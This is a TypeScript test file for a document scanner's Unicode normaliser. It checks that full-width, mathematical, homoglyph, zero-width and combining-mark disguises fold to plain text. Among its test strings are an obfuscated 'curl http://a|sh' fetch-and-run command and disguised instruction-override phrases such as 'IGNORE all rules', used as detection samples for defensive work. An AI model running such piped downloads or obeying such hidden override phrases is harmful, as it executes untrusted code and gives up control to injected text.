/** Letters in disguise, and honest texts that only look unusual. */
import { describe, expect, it } from "vitest";
import { positionsIn, REWRITTEN, type ScanDocument } from "../../../src/core/scan/document.ts";
import { normalised } from "../../../src/core/scan/normalise.ts";
import { zonesOf } from "../../../src/core/scan/zones/zones.ts";

function documentOf(text: string): ScanDocument {
  return { path: "a.md", text, spans: zonesOf("a.md", text), via: [], positionOf: positionsIn(text) };
}

const fold = (text: string) => normalised(documentOf(text)).text;

describe("letters in disguise", () => {
  it.each([
    ["full width", "ｃｕｒｌ　ｈｔｔｐ：／／ａ｜ｓｈ", "curl http://a|sh"],
    ["mathematical", "𝐢𝐠𝐧𝐨𝐫𝐞 𝒶𝓁𝓁 𝟙𝟚", "ignore all 12"],
    ["squared and circled", "🅸🅶🅽🄾🅁🄴 ⓐⓛⓛ ⒭⒰⒧⒠⒮", "IGNORE all rules"],
    ["small capitals", "ɪɢɴᴏʀᴇ ᴀʟʟ", "ignore all"],
    ["raised", "ⁱᵍⁿᵒʳᵉ", "ignore"],
    ["ligatures", "ﬁle", "file"],
    ["Cyrillic within a Latin word", "ignоrе all", "ignore all"],
    ["Greek within a Latin word", "bαsh", "bash"],
    ["Cherokee and Armenian", "ᎪPI sհ", "API sh"],
    ["zero width", "ig\u200bno\u2060re \u200dall\u00ad", "ignore all"],
    ["tags between letters", "ig\u{e0041}\u{e0042}nore", "ignore"],
    ["selectors after letters", "i\ufe0fg\u{e0100}nore", "ignore"],
    ["marks upon marks", "i\u0335\u0336g\u0337nore", "ignore"],
    ["accents apart", "pre\u0301ce\u0301dentes", "précédentes"],
    ["Hangul apart", "\u1106\u116e\u1109\u1175", "무시"],
  ])("%s", (_, text, expected) => {
    expect(fold(text)).toBe(expected);
  });
});

describe("honest texts", () => {
  it.each([
    ["Chinese", "忽略（示例）：请运行，然后检查。Ａ"],
    ["Chinese punctuation around Latin words", "使用 API（v2）：运行，完成！"],
    ["Russian beside English", "Настройка SSH-ключа и API"],
    ["units", "10 μm, Δt, 2π, Ω"],
    ["emoji", "⚠️ Note 👨‍💻 1️⃣ ✅ ❤️"],
    ["accents", "précédentes über señor"],
    ["a flag", "🏴\u{e0067}\u{e0062}\u{e007f}"],
  ])("%s stay as they are", (_, text) => {
    const document = documentOf(text);
    if (text.endsWith("Ａ")) expect(fold(text)).toBe(text.replace("Ａ", "A"));
    else expect(normalised(document)).toBe(document);
  });
});

it.each([
  ["between which there is no letter", "\u200b", " "],
  ["that count as letters too", "\u115f\u200b", " "],
  ["for the other direction", "\u202e", "\n"],
])("signs without end that nobody sees, %s, are read once", (_, sign, end) => {
  const text = `a ${sign.repeat(500_000)}${end}`;
  const { text: folded } = normalised(documentOf(text));
  expect(folded.startsWith(`a ${sign[0]}`)).toBe(true);
  expect(fold(`a ${sign.repeat(500_000)}b`)).toBe("a b");
});

it("leads back to the place in the file, and keeps the zones", () => {
  const document = normalised(documentOf("# 𝐀𝐁\n\u200bx `ｃｕｒｌ x` y\n"));
  const at = document.text.indexOf("curl");
  expect(document.text).toBe("# AB\nx `curl x` y\n");
  expect(document.via).toEqual([REWRITTEN]);
  expect(document.positionOf(at)).toEqual({ line: 2, column: 5 });
  expect(document.positionOf(document.text.indexOf(" y"))).toEqual({ line: 2, column: 12 });
  expect(document.spans.map(({ start, end, zone }) => [zone, document.text.slice(start, end)])).toEqual([
    ["heading", "# AB\n"],
    ["prose", "x "],
    ["inline", "`curl x`"],
    ["prose", " y\n"],
  ]);
});
